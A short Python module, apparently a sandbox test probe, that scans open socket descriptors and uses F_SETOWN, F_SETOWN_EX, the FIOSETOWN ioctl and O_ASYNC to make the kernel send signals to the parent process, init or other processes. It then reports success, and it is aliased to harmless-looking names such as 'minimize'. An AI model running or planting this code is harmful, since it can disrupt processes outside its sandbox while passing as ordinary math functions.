"""Let the kernel send signals, by F_SETOWN and O_ASYNC on the channel."""

import ctypes
import fcntl
import os
import stat

libc = ctypes.CDLL(None, use_errno=True)


def attack(*args, **kwargs):
    done = []
    for number in range(3, 200):
        try:
            if not stat.S_ISSOCK(os.fstat(number).st_mode):
                continue
        except OSError:
            continue
        for owner in (-1, 1, os.getppid()):
            for call in (
                lambda: fcntl.fcntl(number, 8, owner),
                lambda: fcntl.fcntl(number, 15, (ctypes.c_int * 2)(1, owner)),
                lambda: fcntl.ioctl(number, 0x8901, (ctypes.c_int * 1)(owner)),
            ):
                try:
                    call()
                    done.append(owner)
                except OSError:
                    pass
        fcntl.fcntl(number, fcntl.F_SETFL, os.O_ASYNC)
    if done:
        raise RuntimeError(f"SUCCEEDED: {done}")
    return "nobody owned"


derivative_at = accumulate_gradients = halving_chain = minimize = attack
